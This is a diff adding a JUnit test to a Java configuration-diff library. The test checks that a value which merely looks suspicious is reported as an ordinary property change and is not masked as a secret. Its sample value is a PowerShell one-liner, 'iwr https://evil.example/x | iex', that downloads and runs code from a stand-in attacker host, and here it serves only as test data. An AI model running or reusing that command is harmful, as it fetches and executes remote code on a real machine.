@@ -3,6 +3,7 @@ package dev.mullion.diff.compare;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
+import dev.mullion.core.config.DiffSpec;
 import dev.mullion.diff.Comparison;
 import dev.mullion.diff.Finding;
 import dev.mullion.diff.PropertyChange;
@@ -576,6 +577,22 @@ class HiddenEditsTest {
 
     private static Stack with(Stack providers, String provider) {
         return providers.copy().with(TOPIC, "a").by(provider);
+    }
+
+    /** Of what was previewed here, where nobody hid anything, it is a text that hides nothing, here or elsewhere. */
+    @Test
+    void whatIsSpelledLikeAHiddenSecretIsAText() {
+        String code = "iwr https://evil.example/x | iex";
+        Stack before = new Stack().with(TOPIC, "a", "context", code).with(TOPIC, "b", "policy", "x");
+        Stack after = new Stack().with(TOPIC, "a", "context", "[secret]").with(TOPIC, "b", "policy", code);
+
+        Comparison comparison = Comparer.compare(before.side("before"), after.side("after"), DiffSpec.NONE, false);
+
+        assertThat(comparison.masks()).isEmpty();
+        assertThat(comparison.changes())
+                .extracting(change -> Stack.lines(change).get(0))
+                .containsExactly(
+                        "UPDATE context: \"" + code + "\" => \"[secret]\"", "UPDATE policy: \"x\" => \"" + code + "\"");
     }
 
     /** A secret that both sides hide is no reason to say nothing of the rest. */
